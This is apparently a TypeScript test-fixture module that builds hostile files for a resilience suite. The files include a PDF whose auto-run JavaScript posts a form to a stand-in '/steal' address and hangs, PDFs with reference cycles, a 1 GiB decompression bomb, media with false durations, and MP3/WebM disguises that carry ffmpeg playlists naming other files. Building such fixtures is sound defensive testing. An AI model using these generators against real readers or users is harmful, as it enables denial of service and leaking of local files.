import { constants as zlibConstants, deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import { wav16kHeader } from "./media-factory.ts";

/**
 * Files built to hurt a reader: made byte by byte here, so each attack is exactly what its name
 * says and nothing else. Used by the resilience suite.
 */

/**
 * A PDF written by hand from object bodies (numbered from 1 in order), with a correct
 * cross-reference table unless the trailer is told otherwise.
 */
export function rawPdf(
  objects: (string | Buffer)[],
  trailer: { root?: number; extra?: string } = {},
): Buffer {
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(offset);
    const piece = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`, "latin1"),
      typeof body === "string" ? Buffer.from(body, "latin1") : body,
      Buffer.from("\nendobj\n", "latin1"),
    ]);
    parts.push(piece);
    offset += piece.length;
  });
  const xref =
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n` +
    offsets.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`).join("");
  parts.push(
    Buffer.from(
      `${xref}trailer\n<< /Size ${objects.length + 1} /Root ${trailer.root ?? 1} 0 R ${trailer.extra ?? ""} >>\n` +
        `startxref\n${offset}\n%%EOF\n`,
      "latin1",
    ),
  );
  return Buffer.concat(parts);
}

/** A stream object's body (dictionary and bytes). */
export function pdfStream(data: Buffer, dictionary = ""): Buffer {
  return Buffer.concat([
    Buffer.from(`<< /Length ${data.length} ${dictionary} >>\nstream\n`, "latin1"),
    data,
    Buffer.from("\nendstream", "latin1"),
  ]);
}

const FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";
const textOps = (text: string) => `BT /F1 12 Tf 72 720 Td (${text}) Tj ET`;

/** A one-page PDF whose catalogue runs JavaScript on opening and whose page says `text`. */
export function pdfWithJavaScript(text: string): Buffer {
  return rawPdf([
    "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 6 0 R >> >> /Contents 4 0 R " +
      "/AA << /O 5 0 R >> >>",
    pdfStream(Buffer.from(textOps(text), "latin1")),
    "<< /S /JavaScript /JS (app.alert('pwned'); this.submitForm('http://127.0.0.1:9/steal'); while(true){}) >>",
    FONT,
  ]);
}

/** A PDF whose page tree is its own child: walking it never ends unless the reader notices. */
export function pdfWithPageTreeCycle(): Buffer {
  return rawPdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 1000000 >>",
    "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 999999 >>",
  ]);
}

/** A PDF whose stream length refers to itself, and whose trailer's /Prev points at its own table. */
export function pdfWithReferenceLoops(): Buffer {
  const pdf = rawPdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources 5 0 R >>",
    "<< /Length 4 0 R >>\nstream\nBT ET\nendstream",
    "5 0 R",
  ]);
  // The cross-reference table's own offset, as its /Prev: a loop for a reader following history.
  const text = pdf.toString("latin1");
  const start = text.lastIndexOf("startxref\n") + "startxref\n".length;
  const xrefAt = Number.parseInt(text.slice(start), 10);
  return Buffer.from(text.replace("/Root 1 0 R", `/Root 1 0 R /Prev ${xrefAt}`), "latin1");
}

const ADLER_MODULUS = 65521;
type AdlerSums = { a: number; b: number };

/** Adler-32's two sums over `data` (what a zlib stream ends with: b << 16 | a). */
function adlerSums(data: Uint8Array): AdlerSums {
  let a = 1;
  let b = 0;
  for (const byte of data) {
    a = (a + byte) % ADLER_MODULUS;
    b = (b + a) % ADLER_MODULUS;
  }
  return { a, b };
}

/** The sums of X then Y, from X's sums, Y's sums and Y's length (zlib's adler32_combine). */
function adlerThen(x: AdlerSums, y: AdlerSums, yLength: number): AdlerSums {
  return {
    a: (x.a + y.a - 1) % ADLER_MODULUS,
    b: (x.b + y.b + (yLength % ADLER_MODULUS) * (x.a - 1)) % ADLER_MODULUS,
  };
}

/**
 * A zlib stream of `prefix` then `size` bytes of `fill`, made in milliseconds whatever `size` is.
 * A megabyte of `fill` is compressed once, ending on a full flush (byte-aligned, and the blocks
 * after it refer to nothing before it), and its bytes are repeated; the Adler-32 trailer is
 * combined from the pieces' sums. Compressing the gigabyte itself took seconds per test.
 */
export function deflateRepeated(prefix: Buffer, size: number, fill: number): Buffer {
  const chunk = Buffer.alloc(Math.min(size, 1024 * 1024), fill);
  const flushed = { level: 9, finishFlush: zlibConstants.Z_FULL_FLUSH };
  const wholeChunks = chunk.length === 0 ? 0 : Math.floor(size / chunk.length);
  const rest = chunk.subarray(0, size - wholeChunks * chunk.length);
  const chunkBytes = deflateRawSync(chunk, flushed);
  let sums = adlerSums(prefix);
  const chunkSums = adlerSums(chunk);
  for (let i = 0; i < wholeChunks; i++) sums = adlerThen(sums, chunkSums, chunk.length);
  sums = adlerThen(sums, adlerSums(rest), rest.length);
  const trailer = Buffer.alloc(4);
  trailer.writeUInt32BE(((sums.b << 16) | sums.a) >>> 0);
  return Buffer.concat([
    Buffer.from([0x78, 0xda]), // zlib header: deflate, 32 KB window, best compression
    deflateRawSync(prefix, flushed),
    ...Array.from({ length: wholeChunks }, () => chunkBytes),
    deflateRawSync(rest, { level: 9 }), // the final block
    trailer,
  ]);
}

/**
 * A PDF whose one page's content inflates to `inflatedBytes` (default 1 GiB) of blank space after
 * a line of text, compressed twice so the file stays a few kilobytes: a decompression bomb.
 */
export function pdfFlateBomb(inflatedBytes = 1024 ** 3): Buffer {
  const inner = deflateRepeated(Buffer.from(`${textOps("Bomb")}\n`, "latin1"), inflatedBytes, 0x20);
  // Two FlateDecode passes: the first gives the inner deflate stream, the second the page.
  const content = deflateSync(inner, { level: 9 });
  return rawPdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
    pdfStream(content, "/Filter [/FlateDecode /FlateDecode]"),
    FONT,
  ]);
}

/** A ZIP archive (one stored entry) whose first bytes are a ZIP's, as a .docx or a disguised archive is. */
export function zipArchive(name: string, content: Buffer): Buffer {
  const nameBytes = Buffer.from(name, "latin1");
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(nameBytes.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(nameBytes.length, 28);
  const localSize = local.length + nameBytes.length + content.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + nameBytes.length, 12);
  end.writeUInt32LE(localSize, 16);
  return Buffer.concat([local, nameBytes, content, central, nameBytes, end]);
}

/** A gzip of `content`. */
export function gzipped(content: Buffer): Buffer {
  return gzipSync(content);
}

/**
 * A WAV that says its data runs for `claimedSeconds` (16 kHz mono, 16-bit) and holds one second of
 * silence: a recording with an absurd declared duration.
 */
export function wavClaiming(claimedSeconds: number): Buffer {
  const claimed = Math.min(0xffffffff - 36, Math.round(claimedSeconds * 32_000));
  return Buffer.concat([wav16kHeader(claimed), Buffer.alloc(32_000)]);
}

/**
 * An MP4 whose movie and track headers claim `claimedSeconds`, whatever its frames hold: every
 * mvhd, tkhd and mdhd duration is rewritten in place (version 0 boxes, as ffmpeg writes them).
 */
export function mp4Claiming(mp4: Buffer, claimedSeconds: number): Buffer {
  const out = Buffer.from(mp4);
  const patch = (box: string, timescaleAt: number | null, durationAt: number) => {
    for (let i = out.indexOf(box, 0, "latin1"); i >= 0; i = out.indexOf(box, i + 4, "latin1")) {
      const body = i + 4;
      if (out[body] !== 0) continue; // version 1 boxes hold 64-bit times: not written by ffmpeg here
      // tkhd has no timescale of its own: it counts in the movie's (mvhd's).
      const timescale = timescaleAt === null ? movieTimescale : out.readUInt32BE(body + timescaleAt);
      out.writeUInt32BE(Math.min(0xffffffff, Math.round(claimedSeconds * timescale)), body + durationAt);
    }
  };
  const mvhd = out.indexOf("mvhd", 0, "latin1");
  if (mvhd < 0) throw new Error("no mvhd box: not an MP4");
  const movieTimescale = out.readUInt32BE(mvhd + 4 + 12);
  patch("mvhd", 12, 16);
  patch("tkhd", null, 20);
  patch("mdhd", 12, 16);
  return out;
}

/**
 * Text that names other files, dressed as an MP3: an ID3 tag whose footer flag makes readers
 * disagree on where it ends (10 bytes apart), an MPEG frame header in those 10 bytes for a sniffer
 * to see, and `text` where a content-guessing ffmpeg looks next: an HLS playlist or a concat list.
 */
export function mp3Disguise(text: string): Buffer {
  const id3 = Buffer.from([0x49, 0x44, 0x33, 4, 0, 0x10, 0, 0, 0, 0]);
  const frame = Buffer.from([0xff, 0xfb, 0x90, 0x64, 0, 0, 0, 0, 0, 0]);
  return Buffer.concat([id3, frame, Buffer.from(text, "utf8")]);
}

/** `text` behind the first bytes of a WebM (an EBML header): what a sniffer takes for a video. */
export function webmDisguise(text: string): Buffer {
  const ebml = Buffer.from(
    "1a45dfa3a34286810142f7810142f2810442f381084282847765626d42878104428581021853806701000000000000",
    "hex",
  );
  return Buffer.concat([ebml, Buffer.from(text, "utf8")]);
}

/** An HLS playlist whose segments are `targets` (paths or URLs), as ffmpeg's HLS reader takes them. */
export function hlsPlaylist(targets: string[]): string {
  return `#EXTM3U\n#EXT-X-TARGETDURATION:5\n${targets.map((t) => `#EXTINF:3,\n${t}\n`).join("")}#EXT-X-ENDLIST\n`;
}

/** An ffmpeg concat script naming `targets`. */
export function concatList(targets: string[]): string {
  return `ffconcat version 1.0\n${targets.map((t) => `file '${t}'\n`).join("")}`;
}
